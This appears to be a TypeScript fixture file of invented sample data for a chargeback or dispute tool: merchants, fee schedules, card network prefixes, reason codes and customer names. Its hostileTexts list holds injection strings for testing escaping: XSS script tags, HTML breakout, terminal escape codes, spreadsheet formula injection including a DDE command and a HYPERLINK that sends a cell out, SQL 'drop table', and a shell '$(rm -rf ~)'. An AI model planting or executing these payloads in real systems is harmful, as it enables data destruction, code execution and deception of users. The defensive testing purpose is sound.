/** The merchants, cards and prices of the sample: invented, and arranged so that every currency exponent and every odd rule has its place. */

export interface Merchant {
  readonly name: string;
  readonly country: string;
  /** What it settles in; the fees below are in it too. */
  readonly currency: string;
  /** What its customers may pay in. */
  readonly presents: readonly string[];
  readonly descriptor: string;
  readonly goods: readonly string[];
  /** Of one payment, in minor units. */
  readonly prices: readonly [lowest: number, highest: number];
  readonly cardPresent?: true;
}

export const merchants = {
  harbor: { name: 'Harbor Outfitters', country: 'US', currency: 'usd', presents: ['usd', 'usd', 'eur'], descriptor: 'HARBOR OUTFITTERS', goods: ['Storm jacket', 'Deck boots', 'Wool watch cap', 'Rope belt'], prices: [1_900, 32_000] },
  lumen: { name: 'Lumen Audio', country: 'GB', currency: 'gbp', presents: ['gbp'], descriptor: 'LUMEN AUDIO LTD', goods: ['Bookshelf speakers', 'Turntable belt', 'Headphones'], prices: [2_500, 90_000] },
  brasserie: { name: 'Brasserie Nord', country: 'FR', currency: 'eur', presents: ['eur'], descriptor: 'BRASSERIE NORD PARIS', goods: ['Dinner for two', 'Lunch menu', 'Wine cellar visit'], prices: [1_800, 24_000], cardPresent: true },
  kumo: { name: 'Kumo Stationery', country: 'JP', currency: 'jpy', presents: ['jpy'], descriptor: 'KUMO STATIONERY', goods: ['Fountain pen', 'Washi set', 'Desk calendar'], prices: [500, 48_000] },
  geyser: { name: 'Geyser Tours', country: 'IS', currency: 'isk', presents: ['isk'], descriptor: 'GEYSER TOURS EHF', goods: ['Golden Circle day tour', 'Glacier walk', 'Northern lights evening'], prices: [50_000, 9_000_000] },
  lantern: { name: 'Gulf Lantern', country: 'KW', currency: 'kwd', presents: ['kwd'], descriptor: 'GULF LANTERN', goods: ['Brass lantern', 'Oud incense', 'Gift box'], prices: [2_500, 180_000] },
  agave: { name: 'Casa Agave', country: 'MX', currency: 'mxn', presents: ['mxn'], descriptor: 'CASA AGAVE MX', goods: ['Talavera plate', 'Mezcal glasses', 'Agave candle'], prices: [15_000, 850_000] },
  fjord: { name: 'Fjord Market', country: 'US', currency: 'usd', presents: ['usd'], descriptor: 'FJORDMARKET', goods: ['Hand-thrown mug', 'Linen throw', 'Oak board', 'Print, signed'], prices: [1_200, 26_000] },
  pine: { name: 'Pine & Post', country: 'US', currency: 'usd', presents: ['usd'], descriptor: 'PINE AND POST', goods: ['Stool'], prices: [5_000, 20_000] },
  looms: { name: 'Tiny Looms', country: 'US', currency: 'usd', presents: ['usd'], descriptor: 'TINY LOOMS', goods: ['Scarf'], prices: [3_000, 9_000] },
  meridian: { name: 'Meridian Freight', country: 'US', currency: 'usd', presents: ['usd'], descriptor: 'MERIDIAN FREIGHT', goods: ['Container booking', 'Customs handling', 'Pallet storage'], prices: [120_000, 900_000] },
  sprout: { name: 'Sprout Meals', country: 'US', currency: 'usd', presents: ['usd'], descriptor: 'SPROUT MEALS', goods: ['Weekly box', 'Family box', 'Soup subscription'], prices: [2_900, 9_900] },
  ridge: { name: 'Ridge Cycles', country: 'CA', currency: 'cad', presents: ['cad'], descriptor: 'RIDGE CYCLES', goods: ['Chain set', 'Bottle cage', 'Winter tyres'], prices: [1_500, 60_000] },
  sauna: { name: 'Winter Sauna Rentals', country: 'SE', currency: 'sek', presents: ['sek'], descriptor: 'WINTER SAUNA', goods: ['Weekend rental', 'Evening rental'], prices: [80_000, 900_000] },
  velvet: { name: 'Velvet Tickets', country: 'US', currency: 'usd', presents: ['usd'], descriptor: 'VELVET TICKETS', goods: ['Admission'], prices: [3_500, 12_000] },
  arcade: { name: 'Pocket Arcade', country: 'US', currency: 'usd', presents: ['usd'], descriptor: 'POCKET ARCADE', goods: ['Coin pack'], prices: [199, 4_999] },
} as const satisfies Readonly<Record<string, Merchant>>;
export type MerchantKey = keyof typeof merchants;

/** Dispute fees by country, in the settlement currency's minor units: when received, when countered (returned on a win), when prevented. */
export interface Fees {
  readonly received: number;
  readonly countered: number;
  readonly prevented: number;
}
export const feeSchedule: Readonly<Record<string, Fees>> = {
  US: { received: 1_500, countered: 1_500, prevented: 800 },
  GB: { received: 2_000, countered: 2_000, prevented: 700 },
  FR: { received: 2_000, countered: 2_000, prevented: 800 },
  JP: { received: 1_300, countered: 0, prevented: 900 },
  IS: { received: 250_000, countered: 250_000, prevented: 100_000 },
  KW: { received: 4_500, countered: 4_500, prevented: 2_500 },
  MX: { received: 30_000, countered: 0, prevented: 14_000 },
  CA: { received: 1_500, countered: 1_500, prevented: 900 },
  SE: { received: 15_000, countered: 15_000, prevented: 8_000 },
};

export const networks = ['visa', 'mastercard', 'amex', 'discover'] as const;
export type Network = (typeof networks)[number];

/** Issuer prefixes by network. `spikingBin` stands apart. */
export const bins: Readonly<Record<Network, readonly string[]>> = {
  visa: ['400360', '402766', '411770', '414720', '426684', '431307', '440393', '448233', '453244', '476173', '483316', '491277'],
  mastercard: ['510510', '515462', '520473', '523748', '531106', '540168', '545616', '552433', '222300', '271202'],
  amex: ['371449', '376744', '379186', '341134'],
  discover: ['601100', '601174', '644564', '650033'],
};
export const spikingBin = '457173';

export type Reason = keyof typeof codes;
/** Network codes by the processor's reason; a network without an entry has no such code here. */
export const codes = {
  fraudulent: { visa: '10.4', mastercard: '4837', amex: 'F29', discover: '7030' },
  product_not_received: { visa: '13.1', mastercard: '4855', amex: 'C08', discover: '4755' },
  product_unacceptable: { visa: '13.3', mastercard: '4853', amex: 'C31', discover: '4553' },
  duplicate: { visa: '12.6.1', mastercard: '4834', amex: 'P08', discover: '4534' },
  subscription_canceled: { visa: '13.2', mastercard: '4841', amex: 'C28', discover: '4541' },
  credit_not_processed: { visa: '13.6', mastercard: '4860', amex: 'C02', discover: '8002' },
  general: { visa: '12.5', mastercard: '4831', amex: 'P05', discover: '4586' },
  unrecognized: { visa: '10.4', mastercard: '4863', amex: 'F29', discover: '4752' },
} as const satisfies Readonly<Record<string, Readonly<Record<Network, string>>>>;
export const inquiryCodes: Readonly<Record<Network, string>> = { visa: '33', mastercard: '6341', amex: '177', discover: 'AA' };

/** A network and a reason, as often as they come. */
export const kinds: readonly (readonly [Network, Reason])[] = [
  ['visa', 'fraudulent'], ['visa', 'fraudulent'], ['visa', 'fraudulent'], ['visa', 'fraudulent'], ['visa', 'product_not_received'], ['visa', 'product_not_received'],
  ['visa', 'product_unacceptable'], ['visa', 'subscription_canceled'], ['visa', 'credit_not_processed'], ['visa', 'duplicate'],
  ['mastercard', 'fraudulent'], ['mastercard', 'fraudulent'], ['mastercard', 'fraudulent'], ['mastercard', 'product_not_received'], ['mastercard', 'product_unacceptable'],
  ['mastercard', 'unrecognized'], ['mastercard', 'general'], ['amex', 'fraudulent'], ['amex', 'product_not_received'], ['amex', 'subscription_canceled'],
  ['discover', 'fraudulent'], ['discover', 'product_unacceptable'], ['visa', 'general'], ['mastercard', 'duplicate'],
];

export const firstNames = ['Ada', 'Bela', 'Chidi', 'Dunya', 'Elif', 'Farid', 'Greta', 'Hana', 'Ines', 'Jorge', 'Kofi', 'Lena', 'Mateo', 'Nadia', 'Oskar', 'Priya', 'Quentin', 'Rosa', 'Sami', 'Tove'];
export const lastNames = ['Abara', 'Bergström', 'Castillo', 'Dubois', 'Eriksen', 'Fontaine', 'García', 'Haddad', 'Ito', 'Jansen', 'Kowalska', 'Lindqvist', 'Moreau', 'Novák', 'O’Neill', 'Petrov', 'Quispe', 'Rossi', 'Sato', 'Tanaka'];
export const cities = ['Springfield', 'Lakeview', 'Riverton', 'Fairhaven', 'Oakdale', 'Milltown'];

/** Text that attacks whatever shows it unescaped. It stands in ordinary rows. */
export const hostileTexts = [
  '**Bold** _claims_ and [a link](command:workbench.action.terminal.new)',
  '[click](command:casebook.openSample) ![img](https://example.com/x.png)',
  '<img src=x onerror=alert(1)><script>alert(2)</script>',
  '</td></tr></table><h1>Refund approved</h1>',
  '\u001b[31mURGENT\u001b[0m \u001b]8;;https://example.com\u0007pay here\u001b]8;;\u0007',
  '=HYPERLINK("https://example.com?x="&A1,"open")',
  "=cmd|' /C calc'!A0",
  '+1-800-REFUND',
  '-2+3 @SUM(1+1)',
  'Order \u202e0001-XYZ\u202c reversed',
  'مرحبا \u200fטקסט\u200e mixed direction',
  '🧾🔥 👩‍👩‍👧‍👦 family ticket 🏴‍☠️',
  '| a | b |\n|---|---|\n| `code` | ```fence``` |',
  "Robert'); drop table disputes;--",
  '$(rm -rf ~) `id` ${HOME}',
  'line one\r\nline two\ttabbed \\N NULL',
  '\u2400 zero\u200bwidth\u00ad and nbsp\u00a0',
];
